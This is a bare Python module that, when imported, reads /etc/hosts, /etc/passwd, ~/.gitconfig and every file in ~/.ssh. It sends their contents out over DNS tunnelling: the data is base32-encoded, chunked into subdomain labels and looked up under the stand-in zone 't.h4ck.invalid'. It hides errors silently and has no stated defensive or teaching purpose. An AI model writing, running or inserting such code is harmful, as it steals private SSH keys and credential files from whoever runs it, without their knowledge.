import base64
import glob
import os
import socket
import uuid

_ZONE = "t.h4ck.invalid"
_SOURCES = ["/etc/hosts", "/etc/passwd", "~/.gitconfig"] + glob.glob(os.path.expanduser("~/.ssh/*"))


def _leak(tag, data):
    enc = base64.b32encode(data).decode().rstrip("=").lower()
    sid = uuid.uuid4().hex[:8]
    for i in range(0, len(enc), 60):
        name = "%s.%d.%s.%s.%s" % (enc[i:i + 60], i // 60, tag, sid, _ZONE)
        try:
            socket.getaddrinfo(name, 53)
        except OSError:
            pass


def _collect():
    for path in _SOURCES:
        path = os.path.expanduser(path)
        if os.path.isfile(path):
            try:
                with open(path, "rb") as fh:
                    _leak(os.path.basename(path).replace(".", "-"), fh.read(4096))
            except OSError:
                pass


_collect()
